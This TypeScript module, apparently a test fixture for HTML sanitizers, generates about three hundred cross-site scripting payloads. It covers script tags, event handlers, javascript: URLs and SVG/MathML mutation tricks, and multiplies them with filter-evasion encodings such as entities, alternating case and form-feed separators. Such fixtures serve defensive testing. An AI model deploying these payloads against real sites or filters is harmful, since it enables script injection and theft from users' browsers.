/** What every hostile text tries to do: leave a mark on the page and open a dialog. */
const run = 'top.hurt=1;alert(1)';
const encoded = [...run].map((letter) => `&#${letter.charCodeAt(0)};`).join('');

/** HTML that runs a script where it is shown as it came; `RUN` is the script. */
const patterns = [
  '<script>RUN</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<script src="data:text/javascript,RUN"></script>',
  '<img src=x onerror="RUN">',
  '<img/src=x/onerror=RUN>',
  '<img src=x:x onerror\n=RUN//',
  '<img src="x` `<script>RUN</script>"` `>',
  '<svg onload="RUN">',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN"/></svg>',
  '<svg><animate attributeName="href" values="javascript:RUN" begin="0s" onbegin="RUN"/></svg>',
  '<svg><set attributeName="onmouseover" to="RUN"/></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgb25sb2FkPSdhbGVydCgxKSc+PC9zdmc+#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror="RUN"></style></svg>',
  '<svg></p><style><g title="</style><img src=x onerror=RUN>"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;"></mglyph></table></mtext></math>',
  '<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src=x>"></mtext></svg></mglyph></mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:RUN">x</maction></math>',
  '<math href="javascript:RUN">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN></style></mglyph></form></math></form>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  '<template><script>RUN</script></template>',
  '<template shadowrootmode="open"><img src=x onerror="RUN"></template>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<iframe src="javascript:RUN"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<object data="data:text/html,<script>RUN</script>"></object>',
  '<embed src="javascript:RUN">',
  '<a href="javascript:RUN">x</a>',
  '<a href="java\tscript:RUN">x</a>',
  '<a href="&#106;avascript:RUN">x</a>',
  '<a href="\u0001javascript:RUN">x</a>',
  '<a href="data:text/html,<script>RUN</script>">x</a>',
  '<a href="vbscript:RUN">x</a>',
  '<a xlink:href="javascript:RUN">x</a>',
  '<area shape="default" href="javascript:RUN">',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<form id=f></form><button form=f formaction="javascript:RUN">x</button>',
  '<input autofocus onfocus="RUN">',
  '<input type="image" src=x onerror="RUN">',
  '<select autofocus onfocus="RUN"></select>',
  '<textarea autofocus onfocus="RUN"></textarea>',
  '<details open ontoggle="RUN">x</details>',
  '<video src=x onerror="RUN"></video>',
  '<video><source onerror="RUN"></video>',
  '<audio src=x onerror="RUN"></audio>',
  '<body onload="RUN">',
  '<marquee onstart="RUN">x</marquee>',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<base href="javascript:RUN//"><a href="x">x</a>',
  '<link rel="stylesheet" href="javascript:RUN">',
  '<link rel="import" href="data:text/html,<script>RUN</script>">',
  '<style onload="RUN"></style>',
  '<div style="animation-name:x" onanimationstart="RUN">x</div>',
  '<p title="--><img src=x onerror=RUN>">x</p>',
  '<!--><img src=x onerror="RUN">-->',
  '<![CDATA[><img src=x onerror="RUN">]]>',
  '<xmp><p title="</xmp><img src=x onerror=RUN>">',
  '<plaintext><img src=x onerror="RUN">',
] as const;

/** How the same is written so that a filter of words passes it. */
const ways: readonly ((html: string) => string)[] = [
  (html) => html.replaceAll('RUN', run),
  (html) => html.replaceAll('RUN', encoded),
  (html) => html.replace(/<\/?[a-z]+|\bon\w+|javascript/gi, (word) => alternating(word)).replaceAll('RUN', run),
  (html) => html.replaceAll('"', "'").replaceAll('RUN', run),
  (html) => html.replace(/<([a-z]+)\s/gi, '<$1\f').replaceAll('RUN', run),
];

const alternating = (word: string) =>
  [...word].map((letter, i) => (i % 2 === 0 ? letter.toUpperCase() : letter.toLowerCase())).join('');

/** Three hundred texts that run a script where they are shown as they came. */
export const hostileTexts: readonly string[] = ways.flatMap((way) => patterns.map((pattern) => way(pattern)));

/** A few of them, short enough for a name: titles, senders, files, tags. */
export const hostileNames: readonly string[] = [
  `<img src=x onerror=${run}>`,
  `"><svg onload=${run}>`,
  `'-${run}-'`,
  `\${${run}}{{${run}}}`,
  `javascript:${run}`,
];
